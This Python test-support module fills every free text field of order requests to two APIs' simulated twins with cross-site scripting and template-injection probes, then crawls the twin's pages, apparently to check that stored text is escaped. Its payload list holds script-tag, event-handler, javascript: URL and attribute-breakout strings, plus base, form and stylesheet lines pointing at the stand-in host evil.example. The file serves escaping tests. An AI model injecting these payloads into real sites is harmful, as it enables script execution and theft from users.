"""Puts texts that would run, if a page let them, wherever an order takes a text."""

import copy
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, Final

import yaml

from asgi import Got, call
from specwright.model.service import Service
from specwright.model.types import Json
from specwright.twin import create_twin
from specwright.twin.creation import load_with_behaviour
from specwright.twin.edge import Twin
from twin.page.reading import read_page

__all__ = ["APIS", "PAYLOADS", "Api", "every_text", "free_texts", "pages_of", "stored_texts"]

SPECS: Final = Path(__file__).parents[3] / "specs"
# Each calls `probe`, were it ever markup, an attribute, an address or a template. The short ones fit where little does.
PAYLOADS: Final[tuple[str, ...]] = (
    "<script>probe(1)</script>",
    "<img src=x onerror=probe(2)>",
    '"><svg onload=probe(3)>',
    "' onfocus='probe(4)' autofocus='",
    '" onmouseover="probe(5)" x="',
    "javascript:probe(6)",
    "</code></pre></textarea></title></style></script><script>probe(7)</script>",
    "--><iframe srcdoc='<script>parent.probe(8)</script>'></iframe>",
    "data:text/html,<script>probe(9)</script>",
    "{{ cycler.__init__.__globals__ }}{% raw %}<b>",
    '<a href="java\tscript:probe(11)">',
    "<base href='https://evil.example/'><form action=//evil.example>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "\u202e<script>\u2028probe(14)</script>",
    "<b>",
)  # fmt: skip
_PREFIX: Final = "#/$defs/"


class Api:
    """One of the two APIs, its twin, and how an order is created there."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.service: Service = load_with_behaviour(SPECS / name)
        self.create = next(each for each in self.service.operations if each.method.upper() == "POST")
        self._made: dict[str, dict[str, Any]] = {}
        assert self.create.body is not None
        self.media_type = self.create.body.media_types[0]

    def twin(self) -> Twin:
        """Make a fresh twin."""
        return create_twin(self.service, seed=1)

    @property
    def example(self) -> dict[str, Any]:
        """Give the body of the largest documented order."""
        if self.name == "soget":
            orders = yaml.safe_load((SPECS / "soget" / "examples" / "orders.yaml").read_text("utf-8"))
            return {"Order": orders["createImport"]["value"]["Order"]}
        full: dict[str, Any] = yaml.safe_load((SPECS / "transiteo" / "examples" / "order-full.yaml").read_text("utf-8"))
        return dict(full["value"])

    def hostile(self, twin: Twin, text: str) -> dict[str, Any]:
        """Give an order that the service takes, with a text wherever the schema and the rules allow it."""
        if text not in self._made:
            self._made[text] = self._hostile(twin, text)
        return copy.deepcopy(self._made[text])

    def _hostile(self, twin: Twin, text: str) -> dict[str, Any]:
        example = self.example
        body: Any = every_text(copy.deepcopy(example), self.media_type.definition, self.service, text)
        judge = twin.engine.judges.body(self.create, self.media_type.media_type)
        assert judge is not None
        for _ in range(200):
            violations = judge(body)
            if not violations:
                break
            for violation in violations:
                _restore(body, example, violation.path.split("/")[1:])
        assert not judge(body)
        if self.name == "soget":
            # Codes of the actor and place referentials, which the preconditions look up.
            for place in _places(body):
                if place[-1] == "code" and place[-2] in {"carrier", "contractor", "location"}:
                    _restore(body, example, list(place))
        return dict(body)

    def post(self, twin: Twin, body: Mapping[str, Any], *, file_name: str = "") -> Got:
        """Create an order, as callers do; ``file_name`` is that of an uploaded document."""
        if self.name == "soget":
            part = (
                b'--b\r\nContent-Disposition: form-data; name="Order"\r\nContent-Type: application/json\r\n\r\n%s\r\n'
            )
            quoted = file_name.replace('"', "%22").encode()
            head = b'--b\r\nContent-Disposition: form-data; name="Files"; filename="%s"\r\n\r\nx\r\n' % quoted
            content = part % json.dumps(body["Order"]).encode() + (head if file_name else b"") + b"--b--\r\n"
            known = [
                ("authorization", "Bearer sample-token"),
                ("ocp-apim-subscription-key", "sample-key"),
                ("content-type", "multipart/form-data; boundary=b"),
            ]
            return call(twin, "POST", self.create.path, headers=known, body=content)
        known = [("authorization", "sample-id-token"), ("user-agent", file_name or "test")]
        return call(twin, "POST", self.create.path, headers=known, content=body)


APIS: Final = {name: Api(name) for name in ("soget", "transiteo")}


def every_text(value: Json, definition: Json, service: Service, text: str) -> Json:
    """Put a text at every member that is free to hold one, whether it was there or not."""
    known = _resolved(definition, service)
    if isinstance(value, dict):
        for name, inner in _properties(known).items():
            if name in value:
                value[name] = every_text(value[name], inner, service, text)
            elif _is_free(_resolved(inner, service)):
                value[name] = _fitting(_resolved(inner, service), text)
        return value
    if isinstance(value, list):
        return [every_text(item, known.get("items", True), service, text) for item in value]
    return _fitting(known, text) if isinstance(value, str) and _is_free(known) else value


def free_texts(
    definition: Json, service: Service, place: str = "", seen: frozenset[str] = frozenset()
) -> Iterator[str]:
    """List the places of a schema that are free to hold a text."""
    reference = str(definition.get("$ref", "")) if isinstance(definition, dict) else ""
    if reference in seen:
        return
    inner_seen = seen | {reference} if reference else seen
    known = _resolved(definition, service)
    if _is_free(known) and not known.get("properties") and "items" not in known:
        yield place
    for name, inner in _properties(known).items():
        yield from free_texts(inner, service, f"{place}/{name}", inner_seen)
    if isinstance(known.get("items"), dict):
        yield from free_texts(known["items"], service, f"{place}/*", inner_seen)


def stored_texts(value: Json, text: str, place: str = "") -> Iterator[str]:
    """List the places of a value that hold a text."""
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from stored_texts(inner, text, f"{place}/{name}")
    elif isinstance(value, list):
        for inner in value:
            yield from stored_texts(inner, text, f"{place}/*")
    elif value == text:
        yield place


def pages_of(twin: Twin, *, most: int = 300) -> Iterator[tuple[str, Got]]:
    """Follow every link from the overview on, those to a status apart, and give each page."""
    waiting, seen = ["/__twin/"], {"/__twin/"}
    while waiting and len(seen) <= most:
        address = waiting.pop(0)
        got = call(twin, "GET", address)
        yield address, got
        for link in read_page(got.body).links:
            plain = link.partition("#")[0]
            if plain.startswith("/__twin/page/") and "status=" not in plain and plain not in seen:
                seen.add(plain)
                waiting.append(plain)


def _resolved(definition: Json, service: Service) -> dict[str, Any]:
    while isinstance(definition, dict) and "$ref" in definition:
        definition = service.schemas[str(definition["$ref"]).removeprefix(_PREFIX)].definition
    return definition if isinstance(definition, dict) else {}


def _properties(known: Mapping[str, Any]) -> dict[str, Json]:
    found: dict[str, Json] = known.get("properties", {})
    return found


def _is_free(known: Mapping[str, Any]) -> bool:
    is_text = "string" in (known.get("type") or ())
    is_bound = not known.keys().isdisjoint({"enum", "const", "pattern", "format"})
    return is_text and not is_bound and known.get("maxLength", 99) > 2


def _fitting(known: Mapping[str, Any], text: str) -> str:
    return text if len(text) <= known.get("maxLength", 1_000) else PAYLOADS[-1]


def _places(value: Json, place: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    if isinstance(value, dict):
        return [found for name, inner in value.items() for found in _places(inner, (*place, name))]
    if isinstance(value, list):
        return [found for number, inner in enumerate(value) for found in _places(inner, (*place, str(number)))]
    return [place]


def _restore(body: Any, example: Any, place: list[str]) -> None:
    """Put back what the example has at a place, or nothing where it has nothing."""
    *way, last = place
    for name in way:
        body, example = _inner(body, name), _inner(example, name)
    former = _inner(example, last)
    if former is not None:
        body[int(last) if last.isdecimal() else last] = copy.deepcopy(former)
    else:
        body.pop(last, None)


def _inner(value: Any, name: str) -> Any:
    try:
        return value[int(name) if name.isdecimal() else name]
    except (KeyError, IndexError, TypeError):
        return None
